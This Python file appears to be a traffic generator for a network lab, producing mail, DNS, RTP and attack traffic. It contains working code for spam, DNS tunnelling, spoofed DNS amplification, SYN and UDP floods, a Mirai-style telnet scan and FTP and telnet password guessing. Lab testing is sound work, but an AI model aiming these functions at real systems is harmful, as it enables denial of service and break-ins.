"""The parts of the exchanges that are programs of our own: clients.py ACTION ARGUMENTS.

The protocols are spoken by Python's own clients (smtplib, ftplib, telnetlib) and by the C library's resolver.
"""
import os
import random
import socket
import struct
import sys
import time

# Libraries that only one action needs are imported there: two dozen interpreters start at once.
WAIT_S = 15


def smtp_client():
    import smtplib
    return smtplib.SMTP


def message(sender, recipient, words):
    return f"From: {sender}\r\nTo: {recipient}\r\nSubject: {words}\r\n\r\n{words}\r\n" + "An ordinary line.\r\n" * 12


def spam(*servers):
    """A mail each to three guessed addresses at every server; nearly all are refused."""
    for i, server in enumerate(servers):
        with smtp_client()(server, 25, local_hostname=f"dsl-{i}.pool.example", timeout=WAIT_S) as smtp:
            smtp.ehlo()
            sender = f"offer{i}@cheap.example"
            smtp.mail(sender)
            guessed = [f"{name}{i}@strict.example" for name in ("sales", "anna", "postmaster")]
            if i % 7 == 3:
                guessed.append("info@strict.example")
            accepted = [to for to in guessed if smtp.rcpt(to)[0] == 250]
            if accepted:
                smtp.data(message(sender, accepted[0], "Cheap pills"))


def submit(server, port, mails, per_session):
    """Mails through the ISP's relay; a session carries per_session of them."""
    mails, per_session = int(mails), int(per_session)
    for first in range(0, mails, per_session):
        with smtp_client()(server, int(port), local_hostname="laptop", timeout=WAIT_S) as smtp:
            for i in range(first, min(first + per_session, mails)):
                to = f"friend{i}@peer{1 + i % 6}.example"
                smtp.sendmail("subscriber@isp.example", to, message("subscriber@isp.example", to, f"Letter {i}"))


def resolve(*names):
    """By the C library, as any program asks; prints how many have an address."""
    found = 0
    for name in names:
        try:
            socket.getaddrinfo(name, None, type=socket.SOCK_STREAM)
            found += 1
        except socket.gaierror:
            pass
    print(found, "of", len(names), "have an address")


def generated(count, seed):
    """Names as a bot makes them from a seed and the day, with a real one now and then."""
    dice = random.Random(int(seed))
    for i in range(int(count)):
        label = "".join(dice.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(dice.randint(8, 15)))
        resolve(f"{label}.{dice.choice(['com', 'net', 'org', 'biz', 'info'])}.")
        if i % 8 == 0:
            resolve(f"www.site{1 + i // 8 % 6}.example.")


def reverse(*addresses):
    for address in addresses:
        try:
            print(socket.gethostbyaddr(address)[0])
        except socket.herror:
            pass


def question(name, kind, identity):
    """A DNS question with EDNS for 4096 octets."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return (struct.pack(">6H", identity, 0x0100, 1, 0, 0, 1) + labels + struct.pack(">2H", kind, 1)
            + b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0))


def resolver_address():
    with open("/etc/resolv.conf") as settings:
        return [line.split()[1] for line in settings if line.startswith("nameserver")][0]


def exchangers(*domains):
    """Who takes mail for each domain."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        for i, domain in enumerate(domains):
            s.sendto(question(domain, 15, i), (resolver_address(), 53))
            s.recv(4096)


def tunnel_by_txt(domain, octets):
    """Data in long names, asked for as TXT through the resolver: what a tunnel's upstream looks like."""
    dice = random.Random(1)
    left = int(octets)
    resolver = resolver_address()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        while left > 0:
            labels = ["".join(dice.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(50)) for _ in range(3)]
            s.sendto(question(".".join(labels) + "." + domain, 16, dice.randrange(65536)), (resolver, 53))
            s.recv(4096)
            left -= 150 * 5 // 8


def amplify(server, count, *sources):
    """Long answers asked of somebody's resolver again and again, in the names of the sources."""
    total = 0
    for i in range(int(count)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((sources[i % len(sources)], 0))
            s.settimeout(3)
            s.sendto(question("long.example", 255 if i % 2 else 16, i), (server, 53))
            total += len(s.recv(65535))
        time.sleep(0.01)
    print("answers:", total, "octets")
    if total < int(count) * 2000:
        sys.exit("the answers are not long")


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def raw_syns(mac, gateway_mac, syns, per_second):
    """SYNs past the kernel, each (source, target, source port, port, sequence number)."""
    ethernet = bytes.fromhex(gateway_mac.replace(":", "") + mac.replace(":", "")) + b"\x08\0"
    burst = max(1, per_second // 30)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("line", 0))
        start = time.monotonic()
        for i, (source, target, source_port, port, sequence) in enumerate(syns):
            addresses = socket.inet_aton(source) + socket.inet_aton(target)
            ip = struct.pack(">BBHHHBB", 0x45, 0, 40, i & 0xffff, 0, 64, 6)
            ip += struct.pack(">H", checksum(ip + b"\0\0" + addresses)) + addresses
            tcp = [source_port, port, sequence, 0, 0x5002, 65535, 0, 0]
            tcp[6] = checksum(addresses + struct.pack(">HH", 6, 20) + struct.pack(">HHIIHHHH", *tcp))
            s.send(ethernet + ip + struct.pack(">HHIIHHHH", *tcp))
            if i % burst == burst - 1:
                time.sleep(max(0.0, start + i / per_second - time.monotonic()))


def syn_flood(source, target, mac, gateway_mac, count):
    """As bots make them: another source port and sequence number each."""
    dice = random.Random(7)
    raw_syns(mac, gateway_mac, ((source, target, 1024 + dice.randrange(64000), 80, dice.randrange(1 << 32))
                                for _ in range(int(count))), 1000)


def udp_flood(target, port, count):
    """A thousand at once, each second: a flood on a machine of any speed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("", 40000))
        start = time.monotonic()
        for i in range(int(count)):
            if i % 1000 == 0:
                time.sleep(max(0.0, start + i // 1000 - time.monotonic()))
            s.sendto(bytes(512), (target, int(port)))


def mirai(source, mac, gateway_mac, count):
    """Telnet at ever new addresses, 2323 for every tenth, one source port; the sequence number is the address."""
    dice = random.Random(11)
    targets = [f"198.19.{dice.randrange(128)}.{1 + dice.randrange(254)}" for _ in range(int(count))]
    raw_syns(mac, gateway_mac, ((source, target, 40321, 2323 if i % 10 == 9 else 23,
                                 int.from_bytes(socket.inet_aton(target), "big"))
                                for i, target in enumerate(targets)), 30)


def ftp_guess(server, connections):
    """Two wrong passwords a connection."""
    import ftplib
    refused = 0
    for i in range(int(connections)):
        with ftplib.FTP(server, timeout=WAIT_S) as ftp:
            for name in ("admin", "root"):
                try:
                    ftp.login(name, f"guess{i}")
                except ftplib.error_perm as error:
                    refused += str(error).startswith("530")
    print(refused, "refused")


def telnet_guess(server, attempts):
    """Wrong passwords in one connection."""
    import telnetlib
    with telnetlib.Telnet(server, 23, timeout=WAIT_S) as telnet:
        for i in range(int(attempts)):
            telnet.read_until(b"login: ", WAIT_S)
            telnet.write(b"admin\r\n")
            telnet.read_until(b"assword: ", WAIT_S)
            telnet.write(f"guess{i}\r\n".encode())
            if b"Login incorrect" not in telnet.read_until(b"Login incorrect", WAIT_S):
                sys.exit("the server did not refuse")


def inetd(port, *command):
    """Starts the command for each connection, as inetd does."""
    with socket.create_server(("0.0.0.0", int(port)), backlog=64) as listener:
        while True:
            connection, _ = listener.accept()
            if os.fork() == 0:
                for number in (0, 1, 2):
                    os.dup2(connection.fileno(), number)
                os.execvp(command[0], command)
            connection.close()
            try:
                while os.waitpid(-1, os.WNOHANG)[0]:
                    pass
            except ChildProcessError:
                pass


def rtp_packet(i, stream):
    """G.711 voice: 160 octets each 20 ms (RFC 3551)."""
    return struct.pack(">BBHII", 0x80, 8, i & 0xffff, i * 160, stream) + bytes([0xd5] * 160)


def rtp_call(address, port, seconds):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((address, int(port)))
        s.settimeout(3)
        start, heard = time.monotonic(), 0
        for i in range(int(seconds) * 50):
            s.send(rtp_packet(i, 0x1234))
            heard += len(s.recv(2048)) == 172
            time.sleep(max(0.0, start + (i + 1) * 0.02 - time.monotonic()))
    print("heard", heard, "packets")


def rtp_answer(address, port):
    """The other side: as much voice as it hears."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((address, int(port)))
        spoken = 0
        while True:
            _, caller = s.recvfrom(2048)
            s.sendto(rtp_packet(spoken, 0x5678), caller)
            spoken += 1


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
